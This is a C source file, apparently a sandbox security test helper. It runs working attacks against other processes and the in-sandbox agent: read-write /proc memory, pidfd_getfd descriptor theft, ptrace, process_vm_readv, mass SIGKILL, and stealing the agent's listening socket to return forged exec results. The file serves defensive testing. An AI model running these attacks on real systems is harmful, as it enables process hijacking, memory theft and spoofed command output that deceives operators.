/*
 * Attacks on the in-sandbox agent, run from inside a sandbox as one of its commands.
 *
 *   agent_attack mem            open /proc/<pid>/mem read-write for every other process
 *   agent_attack getfd          pidfd_getfd every fd of every other process; report sockets
 *   agent_attack forge SECONDS  steal the agent's listening socket, stop the agent, and answer
 *                               the node's next exec with "FORGED-BY-SANDBOX", exit 0
 *   agent_attack signal         SIGSTOP, then SIGKILL, every other process and thread
 *   agent_attack ptrace         PTRACE_ATTACH / PTRACE_SEIZE every other process
 *   agent_attack vmread         process_vm_readv from every other process
 *
 * Every line printed is "<what> <pid> <result>", result "ok" or an errno name, so the test
 * can assert each attempt failed. Built static on the host; the sandbox needs no compiler.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

/* A user process (kernel threads have an empty command line and no memory to attack). */
static int user_process(int pid) {
    char path[64], c;
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t r = read(fd, &c, 1);
    close(fd);
    return r == 1;
}

static int others(int *out, int max) {
    int n = 0;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d)) && n < max) {
        int p = atoi(e->d_name);
        if (p > 0 && p != getpid() && user_process(p)) out[n++] = p;
    }
    if (d) closedir(d);
    return n;
}

static int tids(int pid, int *out, int max) {
    char path[64];
    int n = 0;
    snprintf(path, sizeof path, "/proc/%d/task", pid);
    DIR *d = opendir(path);
    struct dirent *e;
    while (d && (e = readdir(d)) && n < max) {
        int t = atoi(e->d_name);
        if (t > 0) out[n++] = t;
    }
    if (d) closedir(d);
    if (n == 0) out[n++] = pid;
    return n;
}

static const char *res(long rc) { return rc < 0 ? strerrorname_np(errno) : "ok"; }

/* A listening socket of another process, or -1. */
static int steal_listener(int *owner) {
    int pids[4096], n = others(pids, 4096);
    for (int i = 0; i < n; i++) {
        int pidfd = (int)syscall(SYS_pidfd_open, pids[i], 0);
        if (pidfd < 0) continue;
        for (int fd = 0; fd < 64; fd++) {
            int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
            if (got < 0) continue;
            int acc = 0;
            socklen_t l = sizeof acc;
            if (getsockopt(got, SOL_SOCKET, SO_ACCEPTCONN, &acc, &l) == 0 && acc) {
                close(pidfd);
                *owner = pids[i];
                return got;
            }
            close(got);
        }
        close(pidfd);
    }
    return -1;
}

static void frame(int fd, char type, const char *s) {
    unsigned char h[9] = {(unsigned char)type, 0, 0, 0, 0};
    uint32_t len = (uint32_t)strlen(s);
    h[5] = len >> 24; h[6] = len >> 16; h[7] = len >> 8; h[8] = len;
    if (write(fd, h, 9) < 0 || write(fd, s, len) < 0) return;
}

static int forge(int seconds) {
    int owner = 0, lfd = steal_listener(&owner);
    if (lfd < 0) {
        printf("steal - %s\n", "no-listener");
        return 0;
    }
    printf("steal %d ok\n", owner);
    int pids[4096], n = others(pids, 4096);
    for (int i = 0; i < n; i++) printf("stop %d %s\n", pids[i], res(kill(pids[i], SIGSTOP)));
    fflush(stdout);
    if (fork() != 0) return 0; /* the node's exec ends; the forger stays behind */
    setsid();
    for (int fd = 0; fd < 3; fd++) close(fd);
    alarm((unsigned)seconds);
    for (;;) {
        int c = accept(lfd, NULL, NULL);
        if (c < 0) continue;
        char buf[1 << 16];
        if (read(c, buf, sizeof buf) <= 0) { close(c); continue; }
        frame(c, 'P', "1");
        frame(c, 'O', "FORGED-BY-SANDBOX\n");
        frame(c, 'X', "0 0");
        shutdown(c, SHUT_WR);
        while (read(c, buf, sizeof buf) > 0) {}
        close(c);
    }
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    int pids[4096], n = others(pids, 4096);
    if (!strcmp(argv[1], "forge")) return forge(argc > 2 ? atoi(argv[2]) : 20);
    for (int i = 0; i < n; i++) {
        int p = pids[i];
        if (!strcmp(argv[1], "mem")) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/mem", p);
            int fd = open(path, O_RDWR);
            printf("mem %d %s\n", p, res(fd));
            if (fd >= 0) close(fd);
        } else if (!strcmp(argv[1], "getfd")) {
            int pidfd = (int)syscall(SYS_pidfd_open, p, 0);
            int got = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, 0, 0);
            printf("getfd %d %s\n", p, res(got));
            if (got >= 0) close(got);
            if (pidfd >= 0) close(pidfd);
        } else if (!strcmp(argv[1], "signal")) {
            int t[256], k = tids(p, t, 256);
            for (int j = 0; j < k; j++) {
                printf("stop %d %s\n", t[j], res(syscall(SYS_tgkill, p, t[j], SIGSTOP)));
                printf("kill %d %s\n", t[j], res(syscall(SYS_tgkill, p, t[j], SIGKILL)));
            }
            printf("killpg %d %s\n", p, res(kill(p, SIGKILL)));
        } else if (!strcmp(argv[1], "ptrace")) {
            long rc = ptrace(PTRACE_SEIZE, p, 0, 0);
            printf("ptrace %d %s\n", p, res(rc));
            if (rc == 0) ptrace(PTRACE_DETACH, p, 0, 0);
        } else if (!strcmp(argv[1], "vmread")) {
            char b[16];
            struct iovec l = {b, sizeof b}, r = {(void *)0x400000, sizeof b};
            printf("vmread %d %s\n", p, res(process_vm_readv(p, &l, 1, &r, 1, 0)));
        }
    }
    fflush(stdout);
    return 0;
}
